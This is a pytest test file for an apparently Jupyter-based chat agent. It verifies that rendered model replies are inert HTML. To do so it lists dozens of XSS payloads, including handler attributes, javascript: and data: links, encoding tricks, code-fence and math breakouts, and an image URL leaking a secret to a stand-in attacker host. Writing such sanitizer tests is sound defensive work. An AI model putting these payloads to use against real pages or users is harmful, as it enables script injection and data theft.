"""The model's reply is content, never markup that runs: a broad table of payloads (handlers
on many tags, script, iframe, object/embed, form, style, SVG and MathML, `javascript:`,
`data:` and `vbscript:` links and images, entity-encoded and mixed-case spellings, autolinks,
code-fence and math breakouts, unclosed fences mid-stream) rendered to HTML, and every
result read back by an HTML parser: only allowlisted tags, no handler but our copy
button's own, no address but http(s), mailto or relative. Ordinary Markdown still renders."""

from __future__ import annotations

import html
import json
import re
from html.parser import HTMLParser

import pytest
from IPython.core.interactiveshell import InteractiveShell
from IPython.utils.capture import capture_output
from nbagent.widgets import TAGS, ChatDisplay, allowed_link, copy_button, render_reply, reply_bundle

from nbagent import ChatResult
from nbagent.events import ToolFinished, ToolStarted

BUTTON_SCRIPT = html.unescape(
    re.search(r'onclick="([^"]*)"', copy_button("x")).group(1))  # type: ignore[union-attr]

PAYLOADS = {
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-mixed-case": "<IMG SRC=x OnErRoR=alert(1)>",
    "script": "<script>alert(1)</script>",
    "script-mixed-case": "<ScRiPt>alert(1)</sCrIpT>",
    "script-in-paragraph": "Hello <script>alert(1)</script> world",
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "iframe-javascript": "<iframe src=javascript:alert(1)>",
    "object": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="data:text/html,<script>alert(1)</script>">',
    "form": '<form action="javascript:alert(1)"><input type=submit></form>',
    "button-formaction": "<button formaction=javascript:alert(1)>go</button>",
    "forged-copy-button": '<button class="nbagent-copy" onclick="alert(1)">copy</button>',
    "input-autofocus": "<input autofocus onfocus=alert(1)>",
    "details-ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "body-onload": "<body onload=alert(1)>",
    "video-source-onerror": "<video><source onerror=alert(1)></video>",
    "audio-onerror": "<audio src=x onerror=alert(1)>",
    "marquee-onstart": "<marquee onstart=alert(1)>x</marquee>",
    "anchor-onmouseover": '<a href="https://ok.example" onmouseover="alert(1)">x</a>',
    "div-onclick-inline": 'text <span onclick="alert(1)">click</span> text',
    "style-tag": "<style>*{background:url(javascript:alert(1))}</style>",
    "style-attribute": '<div style="background:url(javascript:alert(1))">x</div>',
    "svg-onload": "<svg onload=alert(1)>",
    "svg-animate-onbegin": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "svg-xlink": '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "math-mxss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base-href": '<base href="javascript:alert(1)//">',
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "html-comment": "<!-- x --><script>alert(1)</script>",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "md-link-javascript": "[x](javascript:alert(1))",
    "md-link-mixed-case": "[x](JaVaScRiPt:alert(1))",
    "md-link-entity": "[x](&#106;avascript:alert(1))",
    "md-link-hex-entity-colon": "[x](&#x6A;avascript&colon;alert(1))",
    "md-link-newline-entity": "[x](java&#10;script:alert(1))",
    "md-link-tab-entity": "[x](java&#9;script:alert(1))",
    "md-link-leading-space": "[x](<  javascript:alert(1)>)",
    "md-link-angle-tab": "[x](<java\tscript:alert(1)>)",
    "md-link-data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "md-link-vbscript": "[x](vbscript:msgbox(1))",
    "md-link-file": "[x](file:///etc/passwd)",
    "md-link-title-break": '[x](https://ok.example "t\\" onmouseover=\\"alert(1)")',
    "md-reference-javascript": "[x][r]\n\n[r]: javascript:alert(1)",
    "md-image-javascript": "![x](javascript:alert(1))",
    "md-image-data-svg": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "md-image-data-png": "![x](data:image/png;base64,iVBORw0KGgo=)",
    "md-image-remote-leak": "![x](https://attacker.example/leak?secret=hunter2)",
    "md-image-alt-break": '![" onerror="alert(1)](https://x.example/a.png)',
    "autolink-javascript": "<javascript:alert(1)>",
    "autolink-data": "<data:text/html,alert(1)>",
    "autolink-vbscript": "<VBScript:msgbox(1)>",
    "fence-break-out": "```\n</code></pre><script>alert(1)</script>\n```",
    "fence-highlighted-break": "```python\n'</span><img src=x onerror=alert(1)>'\n```",
    "fence-info-break": '```python" onmouseover="alert(1)\nx = 1\n```',
    "fence-mismatched-markers": "~~~\n```\n<img src=x onerror=alert(1)>\n~~~\n<img src=y onerror=alert(2)>",
    "fence-code-breaks-copy-button": '```\n"><img src=x onerror=alert(1)>\n```',
    "fence-unclosed-mid-stream": "Here:\n```python\nprint(1)\n<script>alert(1)</script>",
    "fence-indented-close": "```\ncode\n    ```\n<img src=x onerror=alert(1)>",
    "inline-code-break": "`</code><script>alert(1)</script>`",
    "math-inline-break": "$</span><img src=x onerror=alert(1)>$",
    "math-block-break": "$$\n</div><script>alert(1)</script>\n$$",
    "math-href": "$\\href{javascript:alert(1)}{click}$ and $\\unicode{<img src=x onerror=alert(1)>}$",
    "table-cell-html": "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "heading-html": "# <img src=x onerror=alert(1)>",
    "list-html": "- <svg onload=alert(1)>\n- two",
    "blockquote-html": "> <iframe src=javascript:alert(1)>",
    "nonce-guess": "<p>00:0</p>\n\n00:0",
    "null-and-controls": "<scr\x00ipt>alert(1)</script>\x1b[31m",
}


class Inspector(HTMLParser):
    """Every tag and attribute of a rendered reply, as a browser's parser sees them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.wrappers = 0  # our one wrapper of the whole reply

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        ours = tag == "button" and values.get("class") == "nbagent-copy"
        wrapper = tag == "div" and values.get("class", "").startswith("nbagent-reply")
        if wrapper:
            self.wrappers += 1
            ours = values.get("style") == "padding:0"
        if tag not in TAGS and not ours:
            self.problems.append(f"tag <{tag}>")
        for name, value in values.items():
            if name.startswith("on") and not (ours and name == "onclick"
                                               and value == BUTTON_SCRIPT):
                self.problems.append(f"handler {name}={value!r} on <{tag}>")
            if name in ("href", "src", "action", "formaction", "data", "xlink:href", "srcdoc"):
                if not (tag == "a" and name == "href" and allowed_link(value)):
                    self.problems.append(f"address {name}={value!r} on <{tag}>")
            if name == "style" and not (ours or re.fullmatch(r"text-align:\w+", value) or (
                    tag == "span" and re.fullmatch(r"color:var\(--jp-mirror-editor-[a-z]+-color,"
                                                   r" ?#?\w+\)", value))):
                self.problems.append(f"style {value!r} on <{tag}>")


def problems(rendered: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(rendered)
    inspector.close()
    return inspector.problems + (["more than one wrapper"] if inspector.wrappers > 1 else [])


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_a_payload_renders_as_inert_content(payload: str) -> None:
    rendered = reply_bundle(payload)["text/html"]
    assert problems(rendered) == []
    assert "<img" not in rendered.lower() and "<script" not in rendered.lower()


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_a_payload_mid_stream_is_inert_at_every_length(payload: str) -> None:
    text = f"Some *words* first.\n\n{payload}\n\n```python\nx = 1\n```\n"
    for end in range(1, len(text) + 1):
        assert problems(reply_bundle(text[:end])["text/html"]) == [], text[:end]


def test_raw_html_reads_as_the_text_the_model_wrote() -> None:
    rendered = render_reply("Use <b>bold</b> and <script>alert(1)</script>")
    assert "&lt;b&gt;bold&lt;/b&gt;" in rendered
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in rendered


def test_ordinary_markdown_renders_as_in_a_notebook() -> None:
    reply = (
        "# Results\n\n## By region\n\n- north\n- south\n\n1. load\n2. group\n\n"
        "| region | revenue |\n|:--|--:|\n| north | 1,200 |\n\n"
        "Use `df.groupby('region')` and see [the docs](https://pandas.pydata.org) or "
        "[the notes](notes/README.md) or <https://example.org> or [mail](mailto:a@b.org).\n\n"
        "The mean is $\\bar{x} = \\frac{1}{n}\\sum x_i$, costs $5 and $10, and\n\n"
        "$$\ny = a < b\n$$\n\n~~old~~ **bold** *it*\n\n```python\nprint('<hi>')\n```\n"
    )
    shown = reply_bundle(reply)["text/html"]
    assert problems(shown) == []
    for part in ("<h1>Results</h1>", "<h2>By region</h2>", "<li>north</li>", "<ol>",
                 '<th style="text-align:left">region</th>',
                 '<td style="text-align:right">1,200</td>',
                 "<code>df.groupby('region')</code>",
                 '<a href="https://pandas.pydata.org" rel="noopener noreferrer">the docs</a>',
                 '<a href="notes/README.md" rel="noopener noreferrer">the notes</a>',
                 '<a href="https://example.org" rel="noopener noreferrer">',
                 '<a href="mailto:a@b.org" rel="noopener noreferrer">mail</a>',
                 r"<span>$\bar{x} = \frac{1}{n}\sum x_i$</span>", "costs $5 and $10",
                 "<div>$$y = a &lt; b$$</div>", "<s>old</s>", "<strong>bold</strong>",
                 "<pre><code>"):
        assert part in shown, part
    assert ('<span style="color:var(--jp-mirror-editor-builtin-color, green)">print</span>('
            '<span style="color:var(--jp-mirror-editor-string-color, #ba2121)">'
            "'&lt;hi&gt;'</span>)") in shown  # coloured as JupyterLab colours code
    (button,) = re.findall(r'<button class="nbagent-copy"[^\n]*</button>', shown)
    assert 'data-code="print(&#x27;&lt;hi&gt;&#x27;)"' in button


def test_a_remote_image_is_a_link_the_user_may_follow_not_a_fetch() -> None:
    shown = render_reply("![chart](https://example.org/chart.png)")
    assert '<a href="https://example.org/chart.png"' in shown and "[image: chart]" in shown


@pytest.mark.parametrize(("url", "allowed"), [
    ("https://x.org", True), ("HTTP://x.org", True), ("mailto:a@b.org", True),
    ("notes.md", True), ("./a/b.png", True), ("#section", True), ("?q=1", True),
    ("/files/x", True), ("a/b:c", True), ("javascript:alert(1)", False),
    ("JavaScript:alert(1)", False), ("data:text/html,x", False), ("vbscript:x", False),
    ("file:///etc/passwd", False), ("ftp://x.org", False), ("blob:x", False),
    ("java%09script:alert(1)", False), (" javascript:alert(1)", False),
], ids=lambda v: repr(v))
def test_only_http_mailto_and_relative_links(url: str, allowed: bool) -> None:
    assert allowed_link(url) is allowed


class Markup(HTMLParser):
    """The tags and handlers of one of our lines (their own markup is richer than a reply's)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("img", "script", "iframe", "svg", "style", "object", "embed", "form"):
            self.found.append(tag)
        self.found += [name for name, _ in attrs if name.startswith("on")]


def test_every_other_line_shows_outside_text_escaped(ip: InteractiveShell) -> None:
    hostile = '<img src=x onerror=alert(1)><script>alert(1)</script><svg onload=alert(1)>'
    view = ChatDisplay(live=True)
    with capture_output() as captured:
        view(ToolStarted("c1", f"read{hostile}", json.dumps({"path": hostile})))
        view(ToolFinished("c1", f"read{hostile}", True, 400, 900, hostile * 3))
        view(ToolStarted("c2", "fail", "{}"))
        view(ToolFinished("c2", "fail", False, 40, 40, f"Error: {hostile}"))
        view.note(f"a server said {hostile}")
        view.error(f"the provider said {hostile}\nraw detail {hostile}")
        view.finish(ChatResult(text="", stop_message=f"stopped: {hostile}"))
    pages = [str(o.data.get("text/html", "")) for o in captured.outputs]
    assert sum(hostile.replace("<", "&lt;").replace(">", "&gt;") in page for page in pages) >= 4
    for page in pages:
        markup = Markup()
        markup.feed(page)
        assert markup.found == [], page
